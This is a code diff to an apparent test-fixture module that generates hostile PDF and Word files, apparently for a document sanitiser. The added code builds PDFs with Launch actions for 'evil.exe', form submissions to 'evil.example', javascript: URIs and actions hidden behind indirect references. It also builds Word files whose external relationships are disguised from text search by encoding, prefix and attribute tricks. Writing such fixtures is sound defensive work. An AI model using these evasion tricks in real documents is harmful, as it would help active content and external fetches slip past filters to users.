@@ -1,6 +1,6 @@
 import { randomBytes } from 'node:crypto';
 import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
-import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
+import { PDFDocument, PDFHexString, PDFName, type PDFRef, PDFString, StandardFonts } from '@cantoo/pdf-lib';
 import {
   Document,
   FootnoteReferenceRun,
@@ -124,7 +124,7 @@ export async function activePdf(): Promise<Buffer> {
   document.catalog.set(PDFName.of('OpenAction'), context.register(script()));
   page.node.set(PDFName.of('AA'), context.obj({ O: script() }));
   const rectangle = [72, 72, 200, 100];
-  const link = (action: Record<string, string | PDFString | PDFHexString>) =>
+  const link = (action: Record<string, string | PDFRef | PDFString | PDFHexString>) =>
     context.register(
       context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rectangle, A: context.register(context.obj(action)) }),
     );
@@ -136,11 +136,36 @@ export async function activePdf(): Promise<Buffer> {
       link({ S: 'JavaScript', JS: PDFHexString.fromText('app.alert("active")') }),
       link({ S: 'Launch', F: PDFString.of('evil.exe') }),
       link({ S: 'SubmitForm', F: PDFString.of('https://evil.example/') }),
+      // A viewer follows a reference wherever it may stand, here to the kind of an action and of a mark.
+      link({ S: context.register(PDFName.of('Launch')), F: PDFString.of('evil.exe') }),
+      context.obj({
+        Type: 'Annot',
+        Subtype: context.register(PDFName.of('FileAttachment')),
+        Contents: PDFString.of('evil'),
+      }),
+      context.obj({ Type: 'Annot', Subtype: 'Link', PA: { S: 'URI', URI: PDFString.of('javascript:alert(1)') } }),
     ]),
   );
+  page.node.set(
+    PDFName.of('PresSteps'),
+    context.obj({ Type: 'NavNode', NA: { S: 'Launch', F: PDFString.of('evil.exe') } }),
+  );
+  const elsewhere = context.register(
+    context.stream('', { Type: 'XObject', Subtype: 'Form', F: PDFString.of('http://evil.example/') }),
+  );
+  page.node.setXObject(PDFName.of('Elsewhere'), elsewhere);
   const field = document.getForm().createTextField('name');
   field.setText('Ana');
   field.addToPage(page, { x: 72, y: 600, width: 200, height: 20 });
+  return Buffer.from(await document.save());
+}
+
+/** Tagged, with a list of attributes, as Word writes it. */
+export async function taggedPdf(): Promise<Buffer> {
+  const document = await PDFDocument.load(await pdf());
+  const { context } = document;
+  const list = context.obj({ Type: 'StructElem', S: 'L', A: [{ O: 'List', ListNumbering: 'Decimal' }, 0] });
+  document.catalog.set(PDFName.of('StructTreeRoot'), context.obj({ Type: 'StructTreeRoot', K: list }));
   return Buffer.from(await document.save());
 }
 
@@ -216,8 +241,10 @@ const contentTypes = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlf
 const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const relationships = (inner: string) =>
   `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
-const body = (inner: string) =>
-  `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${inner}</w:t></w:r></w:p></w:body></w:document>`;
+const drawing = 'http://schemas.openxmlformats.org/drawingml/2006';
+const written = (inner: string) =>
+  `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}" xmlns:a="${drawing}/main" xmlns:p="${drawing}/picture" xmlns:wp="${drawing}/wordprocessingDrawing"><w:body>${inner}</w:body></w:document>`;
+const body = (inner: string) => written(`<w:p><w:r><w:t>${inner}</w:t></w:r></w:p>`);
 
 /** A Word document of the fewest parts, with something added or put in a part's place. */
 export const smallDocx = (changed: Readonly<Record<string, string | Buffer>> = {}): Buffer =>
@@ -228,12 +255,38 @@ export const smallDocx = (changed: Readonly<Record<string, string | Buffer>> = {
     ...changed,
   });
 
+const reference = (type: string, target: string, mode = 'External') =>
+  `<Relationship Id="r1" Type="${office}/${type}" Target="${target}" TargetMode="${mode}"/>`;
+
 /** A Word document that refers to something outside itself. */
 export const reachingDocx = (type: string, target: string): Buffer =>
+  smallDocx({ 'word/_rels/document.xml.rels': relationships(reference(type, target)) });
+
+/** The same, written so that a program sees what a search for words does not. */
+export const slyDocx = {
+  inFigures: () => slyly(relationships(reference('image', 'file:///a.png', '&#69;xternal'))),
+  behindABracket: () => slyly(relationships(reference('image', 'file:///a.png').replace(' ', ' Note=">" '))),
+  withAPrefix: () => slyly(relationships(reference('image', 'file:///a.png')).replaceAll(/<(?=\/?Rel)/g, '<a-b:')),
+  inAnotherEncoding: () => slyly(Buffer.from(`\uFEFF${relationships(reference('image', 'file:///a.png'))}`, 'utf16le')),
+};
+
+const slyly = (content: string | Buffer): Buffer => smallDocx({ 'word/_rels/document.xml.rels': content });
+
+/** Shows the picture at an address, by way of a relationship that may be called anything: readers go by its id. */
+export const picturingDocx = (address: string): Buffer =>
   smallDocx({
-    'word/_rels/document.xml.rels': relationships(
-      `<Relationship Id="r1" Type="${office}/${type}" Target="${target}" TargetMode="External"/>`,
+    'word/document.xml': written(
+      `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1000000" cy="1000000"/><wp:docPr id="1" name="a"/><a:graphic><a:graphicData uri="${drawing}/picture"><p:pic><p:nvPicPr><p:cNvPr id="1" name="a"/><p:cNvPicPr/></p:nvPicPr><p:blipFill><a:blip r:link="r1"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1000000" cy="1000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
     ),
+    'word/_rels/document.xml.rels': relationships(reference('attachedTemplate', address)),
+  });
+
+/** Holds a page of HTML, to be shown where it stands. */
+export const pageDocx = (html: string): Buffer =>
+  smallDocx({
+    'word/document.xml': written('<w:altChunk r:id="r1"/>'),
+    'word/_rels/document.xml.rels': relationships(reference('aFChunk', 'page.html', 'Internal')),
+    'word/page.html': html,
   });
 
 /** 100 kB that unpack to 100 MB. */
